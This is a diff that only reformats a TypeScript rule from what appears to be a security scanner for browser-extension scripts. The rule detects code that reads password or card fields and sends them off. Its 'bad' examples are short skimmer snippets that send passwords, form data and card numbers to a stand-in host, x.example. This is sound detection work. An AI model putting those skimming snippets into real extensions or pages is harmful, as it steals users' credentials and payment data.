@@ -1,4 +1,13 @@
-import { callsNamed, constant, GuardKind, listOf, nameOf, Op, readsNamed, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  callsNamed,
+  constant,
+  GuardKind,
+  listOf,
+  nameOf,
+  Op,
+  readsNamed,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { listenersOf } from './listeners.ts';
@@ -7,7 +16,8 @@ import { runsInPages } from './places.ts';
 import { leavesBy, messagesLeave, readsBetween } from './sendings.ts';
 import { callsWithin, few } from './usage.ts';
 
-const SECRET = /type\s*=\s*\\?["']?password|autocomplete\s*[*^~|]?=\s*\\?["']?cc-|name\s*[*^~|]?=\s*\\?["']?(card_?number|cvv|cvc|passw)|#(password|pass|card-?number|cvv)\b/i;
+const SECRET =
+  /type\s*=\s*\\?["']?password|autocomplete\s*[*^~|]?=\s*\\?["']?cc-|name\s*[*^~|]?=\s*\\?["']?(card_?number|cvv|cvc|passw)|#(password|pass|card-?number|cvv)\b/i;
 
 export const passwordFieldRead = defineRule({
   id: 'password-field-read',
@@ -31,9 +41,14 @@ export const passwordFieldRead = defineRule({
     const out = leavesBy(script, read);
     const first = [...read][0];
     if (out !== undefined && first !== undefined) {
-      if (out.kind === 'network') yield hit(first, { severity: 'critical', confidence: 'high', message: `They are sent to ${out.to}.` });
+      if (out.kind === 'network')
+        yield hit(first, { severity: 'critical', confidence: 'high', message: `They are sent to ${out.to}.` });
       // Password managers do this: it weighs where some part of the extension sends on what it is told.
-      else yield hit(first, { severity: facts.whole(messagesLeave) ? 'medium' : 'low', message: out.kind === 'message' ? 'They are handed to the background.' : 'They are stored.' });
+      else
+        yield hit(first, {
+          severity: facts.whole(messagesLeave) ? 'medium' : 'low',
+          message: out.kind === 'message' ? 'They are handed to the background.' : 'They are stored.',
+        });
       return;
     }
     // Every form that is sent is copied on its way.
@@ -42,26 +57,55 @@ export const passwordFieldRead = defineRule({
       const fn = script.functions[listener.fn];
       if (fn === undefined) continue;
       const values = readsBetween(script, fn.start, fn.end, new Set(['value', 'elements']));
-      for (const call of callsWithin(script, listener.fn)) if (call.isNew && script.op[call.callee] === 3 && script.strings[script.a[call.callee] as number] === 'FormData') values.add(call.value);
-      for (const call of callsNamed(script, 'serialize', 'serializeArray')) if (call.pos >= fn.start && call.pos < fn.end) values.add(call.value);
+      for (const call of callsWithin(script, listener.fn))
+        if (
+          call.isNew &&
+          script.op[call.callee] === 3 &&
+          script.strings[script.a[call.callee] as number] === 'FormData'
+        )
+          values.add(call.value);
+      for (const call of callsNamed(script, 'serialize', 'serializeArray'))
+        if (call.pos >= fn.start && call.pos < fn.end) values.add(call.value);
       const sent = leavesBy(script, values, ['network', 'message']);
       if (sent === undefined) continue;
-      if (sent.kind === 'network') yield hit(listener.value, { severity: listener.everywhere ? 'critical' : 'high', message: `What is entered into forms is sent to ${sent.to}.` });
-      else if (listener.everywhere) yield hit(listener.value, { severity: facts.whole(messagesLeave) ? 'high' : 'medium', message: 'What is entered into any form is handed to the background.' });
+      if (sent.kind === 'network')
+        yield hit(listener.value, {
+          severity: listener.everywhere ? 'critical' : 'high',
+          message: `What is entered into forms is sent to ${sent.to}.`,
+        });
+      else if (listener.everywhere)
+        yield hit(listener.value, {
+          severity: facts.whole(messagesLeave) ? 'high' : 'medium',
+          message: 'What is entered into any form is handed to the background.',
+        });
     }
   }),
   examples: {
     bad: [
-      contentExample('const p = document.querySelector("input[type=password]"); p.addEventListener("change", () => { fetch("https://x.example/p", { method: "POST", body: JSON.stringify({ u: location.href, p: p.value }) }); });'),
-      contentExample('document.addEventListener("submit", (e) => { const data = Object.fromEntries(new FormData(e.target)); fetch("https://x.example/f", { method: "POST", body: JSON.stringify(data) }); }, true);'),
-      contentExample('document.querySelectorAll(\'input[type="password"]\').forEach((f) => f.addEventListener("blur", () => chrome.runtime.sendMessage({ type: "cred", value: f.value })));'),
-      contentExample('const card = document.querySelector("[autocomplete=cc-number]"); setInterval(() => { navigator.sendBeacon("https://x.example/c", card.value); }, 1000);'),
+      contentExample(
+        'const p = document.querySelector("input[type=password]"); p.addEventListener("change", () => { fetch("https://x.example/p", { method: "POST", body: JSON.stringify({ u: location.href, p: p.value }) }); });',
+      ),
+      contentExample(
+        'document.addEventListener("submit", (e) => { const data = Object.fromEntries(new FormData(e.target)); fetch("https://x.example/f", { method: "POST", body: JSON.stringify(data) }); }, true);',
+      ),
+      contentExample(
+        'document.querySelectorAll(\'input[type="password"]\').forEach((f) => f.addEventListener("blur", () => chrome.runtime.sendMessage({ type: "cred", value: f.value })));',
+      ),
+      contentExample(
+        'const card = document.querySelector("[autocomplete=cc-number]"); setInterval(() => { navigator.sendBeacon("https://x.example/c", card.value); }, 1000);',
+      ),
     ],
     good: [
       contentExample('document.querySelectorAll("input[type=password]").forEach((f) => { f.type = "text"; });'),
-      contentExample('const p = document.querySelector("input[type=password]"); if (p.value.length < 8) warn("too short");'),
-      contentExample('const form = document.querySelector("#mine"); form.addEventListener("submit", (e) => { save(form.elements.name.value); });'),
-      contentExample('const q = document.querySelector("input[type=search]"); fetch("https://x.example/s?q=" + q.value);'),
+      contentExample(
+        'const p = document.querySelector("input[type=password]"); if (p.value.length < 8) warn("too short");',
+      ),
+      contentExample(
+        'const form = document.querySelector("#mine"); form.addEventListener("submit", (e) => { save(form.elements.name.value); });',
+      ),
+      contentExample(
+        'const q = document.querySelector("input[type=search]"); fetch("https://x.example/s?q=" + q.value);',
+      ),
     ],
   },
 });
@@ -72,20 +116,42 @@ function secretFields(script: ScriptFacts): readonly number[] {
   let tested = 0;
   for (let at = 0; at < script.guards.length && tested < 50; at += 5) {
     const value = script.guards[at] as number;
-    if (script.guards[at + 1] !== GuardKind.equals || script.op[value] !== Op.member || nameOf(script, value) !== 'type') continue;
+    if (
+      script.guards[at + 1] !== GuardKind.equals ||
+      script.op[value] !== Op.member ||
+      nameOf(script, value) !== 'type'
+    )
+      continue;
     const list = script.guards[at + 4] as number;
     if (!listOf(script, list).some((text) => script.strings[text] === 'password')) continue;
     tested++;
-    for (const one of originsOf(script, script.a[value] as number)) if (script.op[one] === Op.call && /^(querySelectorAll|getElementsByTagName)$/.test(nameOf(script, script.a[one] as number))) found.push(one);
+    for (const one of originsOf(script, script.a[value] as number))
+      if (
+        script.op[one] === Op.call &&
+        /^(querySelectorAll|getElementsByTagName)$/.test(nameOf(script, script.a[one] as number))
+      )
+        found.push(one);
   }
   return found;
 }
 
 function namedFields(script: ScriptFacts): number[] {
-  return callsNamed(script, 'querySelector', 'querySelectorAll', 'closest', 'find', '$', 'jQuery', 'getElementById', 'matches')
+  return callsNamed(
+    script,
+    'querySelector',
+    'querySelectorAll',
+    'closest',
+    'find',
+    '$',
+    'jQuery',
+    'getElementById',
+    'matches',
+  )
     .filter((call) => {
       const selector = constant(script, call.args[0] ?? 0);
-      return selector !== undefined && (SECRET.test(selector) || /^(password|passwd|card-?number|cvv)$/i.test(selector));
+      return (
+        selector !== undefined && (SECRET.test(selector) || /^(password|passwd|card-?number|cvv)$/i.test(selector))
+      );
     })
     .map((call) => call.value);
 }
